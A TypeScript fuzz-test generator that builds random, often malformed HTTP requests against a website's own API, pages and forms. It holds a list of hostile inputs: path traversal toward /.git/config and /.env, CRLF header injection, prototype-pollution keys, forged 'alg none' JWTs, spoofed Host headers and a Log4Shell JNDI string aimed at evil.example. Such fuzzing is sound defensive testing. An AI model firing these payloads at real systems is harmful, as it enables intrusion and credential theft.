/** A random request from the site's calls and pages, and from known attacks. */
import { allCalls } from '../support/all-calls.ts';
import type { CallDefinition } from '#shared/api/define-call.ts';
import { pageQueries } from '#server/platform/match-page.ts';
import { routeIds, routeRow } from '#shared/routes/route-table.ts';
import { staffRouteIds } from '#shared/routes/staff-patterns.ts';
import { staffRoutes } from '#shared/routes/staff-routes.ts';
import type { Random } from '../support/random.ts';
import { hostileTexts } from './hostile-values.ts';
import { someText, valueOf, type ValueMaker } from './schema-values.ts';

/** How the body is sent: at once, in pieces, ended early, or aborted halfway. */
export type Arrival = 'whole' | 'pieces' | 'cut' | 'given-up';

export interface MadeRequest {
  readonly method: string;
  readonly target: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | Buffer | undefined;
  /** By default at once. */
  readonly arrival?: Arrival;
}

/** Addresses that are neither pages nor calls. */
const otherTargets = [
  ...['/robots.txt', '/sitemap.xml', '/sitemaps/pages.xml', '/llms.txt', '/index.md', '/about.md', '/blog.md'],
  ...[
    '/blog/rss.xml',
    '/blog/feed.json',
    '/blog/tag/x/atom.xml',
    '/favicon.ico',
    '/favicon.svg',
    '/site.webmanifest',
    '/healthz',
  ],
  ...[
    '/readyz',
    '/art/field/x/landscape.svg',
    '/art/constructor/x/landscape.svg',
    '/media/x/320.avif',
    '/icons/icon-192.png',
  ],
  ...[
    '/social-cards/about/x.png',
    '/preview/x',
    '/_data/',
    '/_data/about',
    '/_data/preview/x',
    '/_data//',
    '/_problem',
  ],
  ...['/assets/', '/assets/../index.html', '/fonts/../../package.json', '/.git/config', '/.env', '/package.json'],
  ...['/%2e%2e/%2e%2e/package.json', '/..%5c..%5cpackage.json', '//', '/;/', '/?', '/*', '/old-page'],
  ...['/\\', '/%5C', '/\\evil.example', '/_data/\\', '//@', '//[', '/#'],
];

const fieldsOf = (schema: CallDefinition['query']): string[] => Object.keys(schema?.shape ?? {});

const filled = (pattern: string, maker: ValueMaker): string =>
  pattern.replace(/:\w+\??|\{\w+\}/g, () => encodeURIComponent(wellFormed(someText(maker))));

/** Half surrogates cannot be encoded in an address; raw ones are sent too. */
const wellFormed = (text: string): string => text.replace(/[\ud800-\udfff]/g, '\ufffd');

const escapes = [
  ...['%2F', '%2f', '%5C', '%252F', '%25%32%46', '%2541', '%2e%2e%2f', '%EF%BC%8F', '%C0%AF', '%FF', '%ED%A0%80'],
  ...['%00', '%0d%0aX-Injected:%201', '%20', '%E2%80%8B', '%C2%AD', '%25', '%', '%zz', '%u002f', '%3F', '%23', '%3B'],
];

const escaped = (sign: string): string => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`;

/** Sometimes adds escaped characters to an address, or escapes it once or twice more. */
const escapedPath = (whole: string, { random, malice }: ValueMaker): string => {
  if (random.number() >= malice) return whole;
  const start = whole.startsWith('/api/') ? '/api/'.length : 1;
  const at = start + random.below(Math.max(1, whole.length - start + 1));
  let path = whole.slice(start, at) + random.oneOf(escapes) + whole.slice(at);
  for (let times = random.below(3); times > 0; times -= 1)
    path = path.replace(/[\w%/.-]/g, (sign) => (random.number() < 0.3 ? escaped(sign) : sign));
  return whole.slice(0, start) + path;
};

const queryOf = (names: readonly string[], maker: ValueMaker): string => {
  const { random, malice } = maker;
  const pairs = names.filter(() => random.number() < 0.5).map((name) => [name, someText(maker)]);
  if (random.number() < malice) pairs.push([someText(maker), someText(maker)], ...pairs);
  if (random.number() < malice) pairs.push(['page[$gt]', ''], ['limit[]', '1'], ['__proto__[x]', '1']);
  const text = new URLSearchParams(pairs.map(([name = '', value = '']) => [name, value])).toString();
  return text === '' ? '' : `?${text}`;
};

const hostileHeaders: readonly (readonly [string, string])[] = [
  ['host', 'evil.example'],
  ['host', 'evil example'],
  ['host', '[::1'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['x-forwarded-for', '127.0.0.1, evil'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/admin'],
  ['accept-encoding', 'br;q=x, gzip;q=9, *;q=-1'],
  ['accept', '*/*;q=zzz'],
  ['accept', 'a'.repeat(3000)],
  ['if-none-match', 'W/"'.repeat(200)],
  ['if-modified-since', 'yesterday'],
  ['if-range', '"x"'],
  ['range', 'bytes=0-0,1-1,2-2,-9999999999,9-1'],
  ['range', 'bytes=9999999999-'],
  ['if-match', '"x"'],
  ['if-unmodified-since', 'Sat, 01 Jan 2000 00:00:00 GMT'],
  ['cookie', '__proto__=1; a="'],
  ['origin', 'https://evil.example'],
  ['sec-fetch-site', 'cross-site'],
  ['referer', 'https://evil.example/\u00ff'],
  ['idempotency-key', 'k'.repeat(201)],
  ['idempotency-key', '__proto__'],
  ['x-request-id', '../../../x'],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'x'],
  ['authorization', 'Bearer e30.e30.'],
  ['authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.'],
  ['authorization', 'Basic YTpi'],
  ['user-agent', '${jndi:ldap://evil.example/a}'],
];

const contentTypes = ['application/json', 'application/json; charset=utf-16', 'text/plain', 'image/png', 'x'];

const headersFor = (maker: ValueMaker, token: string, forStaff: boolean): Record<string, string> => {
  const { random, malice } = maker;
  const headers: Record<string, string> = {};
  if (random.number() < (forStaff ? 0.93 : 0.1)) headers['authorization'] = `Bearer ${token}`;
  if (random.number() < 0.2) headers['accept-encoding'] = random.oneOf(['br', 'gzip', 'identity']);
  while (random.number() < malice) {
    const [name, value] = random.oneOf(hostileHeaders);
    headers[name] = value;
  }
  return headers;
};

const brokenJson = ['{', '{"a":}', '[1,', 'nul', '"\ud800"', '{"a":1}{"b":2}', '\ufeff{}', '{"__proto__":1'];

const bodyFor = (call: CallDefinition, maker: ValueMaker): string | Buffer => {
  const { random, malice } = maker;
  if (random.number() < malice / 2) return random.oneOf([...brokenJson, ...hostileTexts]);
  if (call.accepts !== undefined)
    return Buffer.from(Array.from({ length: random.below(400) }, () => random.below(256)));
  return JSON.stringify(call.body === undefined ? {} : valueOf(call.body, maker)) ?? '';
};

const requestToCall = (call: CallDefinition, maker: ValueMaker, token: string): MadeRequest => {
  const { random, malice } = maker;
  const takesBody = call.body !== undefined || call.accepts !== undefined;
  const type = call.accepts === undefined ? 'application/json' : 'image/png';
  const body = takesBody || random.number() < malice / 4 ? bodyFor(call, maker) : undefined;
  return {
    method: random.number() < malice / 4 ? random.oneOf(['PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']) : call.method,
    target: escapedPath(filled(call.path, maker), maker) + queryOf(fieldsOf(call.query), maker),
    headers: {
      ...(body === undefined
        ? {}
        : { 'content-type': random.number() < malice / 4 ? random.oneOf(contentTypes) : type }),
      ...headersFor(maker, token, call.auth === 'staff'),
    },
    body,
  };
};

const pagePatterns = [
  ...routeIds.map((id) => ({ pattern: routeRow(id).pattern, query: pageQueries[id] ?? [] })),
  ...staffRouteIds.map((id) => ({ pattern: staffRoutes[id].pattern, query: [] })),
];

/** A target may be a whole URL (RFC 9112, 3.2.2). */
const origins = [
  ...['http://localhost', 'https://localhost:443', 'http://evil.example', 'HTTP://[::1]:80', 'http://a@b'],
  ...['http://', 'http://%6cocalhost', 'http://localhost:99999', 'http://\\'],
];

const requestToPage = (maker: ValueMaker, token: string): MadeRequest => {
  const { random, malice } = maker;
  const { pattern, query } = random.oneOf(pagePatterns);
  const draw = random.number();
  const path = draw < 0.6 ? filled(pattern, maker) : draw < 0.9 ? random.oneOf(otherTargets) : `/${someText(maker)}`;
  const prefix = random.number() < 0.15 ? '/_data' : '';
  const origin = random.number() < malice / 4 ? random.oneOf(origins) : '';
  const target = origin + escapedPath(prefix + path, maker) + queryOf([...query, 'preview', 'service'], maker);
  const method = random.number() < malice / 2 ? random.oneOf(['POST', 'HEAD', 'OPTIONS', 'PUT', 'TRACE']) : 'GET';
  return { method, target, headers: headersFor(maker, token, false), body: undefined };
};

const formFields = ['name', 'email', 'company', 'message', 'service_interest', 'urgent', 'form_shown_at', 'position'];

const postedForm = (maker: ValueMaker, token: string): MadeRequest => ({
  method: 'POST',
  target: '/contact',
  headers: { 'content-type': 'application/x-www-form-urlencoded', ...headersFor(maker, token, false) },
  body: queryOf([...formFields, ...formFields], maker).slice(1),
});

const applicationForms = ['/api/applications/*', '/careers/*/apply', '/careers/*/application'].map((path) =>
  path.replace('*', 'devops-engineer'),
);
const applicationFields = ['name', 'email', 'message', 'consent', 'uploads', 'action', 'cv', 'files', '__proto__'];
const partHeaders = ['', '', 'Content-Type: application/octet-stream', 'Content-Type: x/y; charset=utf-16', 'none'];

/** A form with texts and files, cut off more often than not. */
const postedApplication = (maker: ValueMaker, token: string): MadeRequest => {
  const { random } = maker;
  const part = (): string => {
    const file = random.number() < 0.5 ? `; filename="${someText(maker)}"` : '';
    const disposition = `Content-Disposition: form-data; name="${random.oneOf(applicationFields)}"${file}`;
    const head = [disposition, random.oneOf(partHeaders)].filter((line) => line !== '').join('\r\n');
    return `--b\r\n${head}\r\n\r\n${someText(maker)}\r\n`;
  };
  const form = Buffer.from(`${Array.from({ length: random.below(6) }, part).join('')}--b--\r\n`);
  return {
    method: 'POST',
    target: random.oneOf(applicationForms),
    headers: { 'content-type': 'multipart/form-data; boundary=b', ...headersFor(maker, token, false) },
    body: random.number() < 0.7 ? form.subarray(0, random.below(form.length)) : form,
  };
};

/** Hashing a password takes a tenth of a second, and signing out ends the run's session. */
const costly = /\/(?:login|create-admin|account\/.*(?:password|end|end-others))$/;
const calls = allCalls.filter(({ path }) => !path.endsWith('/logout') && !costly.test(path));
const costlyCalls = allCalls.filter(({ path }) => costly.test(path));

const arrivals: readonly Arrival[] = ['pieces', 'cut', 'given-up'];

const someRequest = (maker: ValueMaker, token: string): MadeRequest => {
  const { random } = maker;
  const draw = random.number();
  if (draw < 0.004) return requestToCall(random.oneOf(costlyCalls), maker, token);
  if (draw < 0.68) return requestToCall(random.oneOf(calls), maker, token);
  if (draw < 0.72) return postedForm(maker, token);
  if (draw < 0.75) return postedApplication(maker, token);
  return requestToPage(maker, token);
};

export const madeRequest = (random: Random, known: readonly string[], token: string): MadeRequest => {
  const maker: ValueMaker = { random, known, malice: random.oneOf([0, 0.05, 0.2, 0.5]) };
  const made = someRequest(maker, token);
  const isWhole = made.body === undefined || made.body.length < 2 || random.number() >= maker.malice;
  return isWhole ? made : { ...made, arrival: random.oneOf(arrivals) };
};
